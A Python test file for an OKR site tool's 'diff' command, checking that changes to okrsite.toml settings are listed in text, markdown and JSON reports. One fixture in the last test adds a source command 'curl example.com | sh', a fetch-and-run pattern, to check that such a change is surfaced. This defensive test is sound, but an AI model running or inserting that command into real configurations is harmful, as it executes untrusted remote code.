"""A pull request that changes okrsite.toml: the report names the settings it moved.

Moving a threshold or the days before an objective is stale changes
statuses and findings across the portfolio without touching a goal file;
the report listed the effects but not their cause.
"""

from __future__ import annotations

import json
import os
from pathlib import Path

from click.testing import CliRunner
from test_diff_fixtures import commit, init_repo

from okrsite.cli import cli

OBJECTIVE = """
---
title: Grow the pipeline
cycle: 2026-Q4
owner: Tom Lee
key_results:
  - {id: pipeline, title: Pipeline, start: 0, target: 100}
  - {id: deals, title: Deals, start: 0, target: 10}
---
"""
CHECKIN = """
---
objective: sales/pipeline
date: 2026-10-20
values: {pipeline: 40, deals: 3}
---
"""


def diff(repo: Path, *args: str) -> tuple[int, str]:
    old = Path.cwd()
    os.chdir(repo)
    try:
        result = CliRunner().invoke(cli, ["diff", *args], catch_exceptions=False)
    finally:
        os.chdir(old)
    return result.exit_code, result.stdout


def test_the_report_names_each_setting_the_change_moved(tmp_path: Path) -> None:
    repo = init_repo(tmp_path / "repo")
    base = commit(
        repo,
        "goals",
        {
            "okrsite.toml": 'title = "Acme"\nas_of = 2026-11-20\n',
            "content/objectives/sales/pipeline.md": OBJECTIVE,
            "content/checkins/2026-10-20.md": CHECKIN,
        },
    )
    head = commit(
        repo,
        "looser rules",
        {
            "okrsite.toml": 'title = "Acme"\nas_of = 2026-11-20\nstale_after_days = 45\n'
            'language = "en-GB"\n[scoring]\nat_risk_threshold = 0.5\n'
            "[cycles.FY27]\nstart = 2026-04-01\nend = 2027-03-31\n",
        },
    )
    code, text = diff(repo, base, head, "--format", "text")
    assert code == 0, text
    assert (
        "changes 4 settings of okrsite.toml (language, at_risk_threshold, stale_after_days and 1 more)"
        in text
    )
    assert "Settings (okrsite.toml):" in text
    assert '  language: "en" → "en-GB"\n' in text
    assert "  stale_after_days: 14 → 45\n" in text
    assert "  at_risk_threshold: 0.3 → 0.5\n" in text
    assert '  cycles.FY27: not set → 2026-04-01 to 2027-03-31, "FY27"\n' in text
    # the staleness the new setting ends is the effect, listed as before
    assert "fixed content/objectives/sales/pipeline.md" in text
    _, markdown = diff(repo, base, head, "--format", "markdown")
    assert "- `stale_after_days`: 14 → 45" in markdown
    _, raw = diff(repo, base, head, "--format", "json")
    report = json.loads(raw)
    assert report["empty"] is False
    assert report["settings"] == [
        {"key": "language", "before": "en", "after": "en-GB"},
        {"key": "at_risk_threshold", "before": 0.3, "after": 0.5},
        {"key": "stale_after_days", "before": 14, "after": 45},
        {
            "key": "cycles.FY27",
            "before": None,
            "after": {"start": "2026-04-01", "end": "2027-03-31", "title": "FY27"},
        },
    ]
    # a change that leaves okrsite.toml alone lists no settings
    _, raw = diff(repo, base, base, "--format", "json")
    assert json.loads(raw)["settings"] == []


def test_settings_that_cannot_be_read_are_no_change_and_numbers_read_as_written(
    tmp_path: Path,
) -> None:
    """An okrsite.toml with errors falls back to defaults: those were listed as
    seven settings "changed" to them. A cycle whose title alone changed read
    the same on both sides, and a default of 4.0 read "4.0 → 3"."""
    repo = init_repo(tmp_path / "repo")
    config = (
        'title = "Acme"\nas_of = 2026-11-20\ndefault_cycle = "2026-Q4"\n'
        '[cycles.FY27]\nstart = 2026-04-01\nend = 2027-03-31\ntitle = "Fiscal 2027"\n'
    )
    base = commit(
        repo,
        "goals",
        {
            "okrsite.toml": config,
            "content/objectives/sales/pipeline.md": OBJECTIVE,
            "content/checkins/2026-10-20.md": CHECKIN,
        },
    )
    retitled = commit(
        repo,
        "retitled",
        {
            "okrsite.toml": config.replace("Fiscal 2027", "FY 27").replace(
                "as_of", "low_confidence = 3\nas_of"
            )
        },
    )
    broken = commit(repo, "broken", {"okrsite.toml": "stale_after_days = = 3\n" + config})
    _, text = diff(repo, base, retitled, "--format", "text")
    assert (
        '  cycles.FY27: 2026-04-01 to 2027-03-31, "Fiscal 2027" → 2026-04-01 to 2027-03-31, "FY 27"\n'
        in text
    )
    assert "  low_confidence: 4 → 3\n" in text
    code, raw = diff(repo, base, broken, "--format", "json", "--fail-on", "none")
    report = json.loads(raw)
    assert code == 0 and report["settings"] == [], report["settings"]
    assert any(d["code"] == "CFG001" for d in report["diagnostics"]["head_errors"])


def test_a_source_of_okrsite_pull_added_is_shown(tmp_path: Path) -> None:
    """A ``[[sources]]`` entry runs a command on every ``okrsite pull``: a pull
    request that adds one said "No changes to goals"."""
    repo = init_repo(tmp_path / "repo")
    config = 'title = "Acme"\nas_of = 2026-11-20\n'
    base = commit(
        repo,
        "goals",
        {"okrsite.toml": config, "content/objectives/sales/pipeline.md": OBJECTIVE},
    )
    head = commit(
        repo,
        "a source",
        {
            "okrsite.toml": config + '[[sources]]\nname = "crm"\n'
            'command = ["sh", "-c", "curl example.com | sh"]\nheader = "Authorization"\nheader_env = "CRM_TOKEN"\n'
        },
    )
    _, text = diff(repo, base, head, "--format", "text")
    assert "changes 1 setting of okrsite.toml (sources.crm)" in text
    _, raw = diff(repo, base, head, "--format", "json")
    (source,) = json.loads(raw)["settings"]
    assert source["key"] == "sources.crm" and source["before"] is None
    after = source["after"]
    assert after["command"] == ["sh", "-c", "curl example.com | sh"]
    assert (after["header"], after["header_env"]) == ("Authorization", "CRM_TOKEN")
    assert after["timeout"] == 30
